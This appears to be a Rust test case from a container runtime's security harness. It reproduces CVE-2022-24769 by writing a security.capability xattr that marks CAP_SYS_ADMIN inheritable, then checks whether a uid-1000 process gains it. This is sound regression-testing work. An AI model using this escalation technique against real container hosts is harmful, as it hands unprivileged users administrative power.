//! What whoever started it hands on.
//!
//! Two of a thread's sets of capabilities pass through execve(2). The ambient set gives a program what is in it at once. The
//! inheritable set gives it to programs in whose file the same capability is marked as inheritable, and images have such
//! files. Docker, Podman and runc left a container's inheritable set full: a user inside, who was nobody special, got root's
//! capabilities from a file (CVE-2022-24769). Here it is whoever starts the runtime that hands a capability on in both.
//!
//! The ambient set never worked: the kernel empties it when root becomes another user. The inheritable set it leaves.
//!
//! Chapter 8 stops it: a user namespace begins with both sets empty. Chapter 9 empties them itself, for containers that
//! have no user namespace.

use std::fs;
use std::os::unix::fs::PermissionsExt;
use std::os::unix::process::CommandExt;
use std::process::{Command, Stdio};

use nix::errno::Errno;

use crate::arena::Arena;
use crate::inside::{At, Inside, Stopped};
use crate::{Attack, End};
use cooperage::container::capability::Capability;

const HANDED_ON: Capability = Capability::SYS_ADMIN;

pub const ATTACK: Attack = Attack {
    name: "inherited-caps",
    title: "a capability in the sets of whoever started it (CVE-2022-24769)",
    won: "had CAP_SYS_ADMIN as a user who is nobody special",
    harmless: "",
    end: End::Chapter(8),
    because: "a user namespace begins with the ambient and the inheritable set empty",
    prepare: |arena: &mut Arena| arena.hand_on(HANDED_ON),
    attack,
    judge: Arena::was_let,
};

fn attack(me: &Inside) -> Result<String, Stopped> {
    me.need_proc()?;
    const PROGRAM: &str = "/inheritor";
    fs::copy("/usr/bin/witness", PROGRAM)
        .and_then(|_| fs::set_permissions(PROGRAM, fs::Permissions::from_mode(0o755)))
        .at("open(a program, O_CREAT)")?;
    if has_it(PROGRAM)? {
        return Ok(String::new());
    }
    mark()?;
    if has_it(PROGRAM)? { Ok(String::new()) } else { Err(Stopped::nothing("it was handed nothing")) }
}

/// Marks it as inheritable in the program's file, and to be effective. See "File capabilities" in capabilities(7), and struct
/// vfs_cap_data of linux/capability.h: halves of the permitted and of the inheritable set, by turns.
fn mark() -> Result<(), Stopped> {
    const VERSION_2: u32 = 0x0200_0000;
    const EFFECTIVE: u32 = 1;
    let words: [u32; 5] = [VERSION_2 | EFFECTIVE, 0, 1 << HANDED_ON.0, 0, 0];
    let bytes: Vec<u8> = words.iter().flat_map(|word| word.to_le_bytes()).collect();
    let (path, name) = (c"/inheritor".as_ptr(), c"security.capability".as_ptr());
    // SAFETY: the strings are static, and the bytes are as many as it is said.
    let set = unsafe { libc::setxattr(path, name, bytes.as_ptr().cast(), bytes.len(), 0) };
    Errno::result(set).at("setxattr(security.capability)").map(drop)
}

/// Has a user who is not root the capability, in this program?
fn has_it(program: &str) -> Result<bool, Stopped> {
    let mut command = Command::new(program);
    let done = command.uid(1000).gid(1000).stdin(Stdio::inherit()).output().at("setuid(1000)")?;
    let seen: serde_json::Value = serde_json::from_slice(&done.stdout).unwrap_or_default();
    let effective = seen["capabilities"]["effective"].as_array();
    Ok(effective.is_some_and(|names| names.iter().any(|name| HANDED_ON.name() == name.as_str())))
}
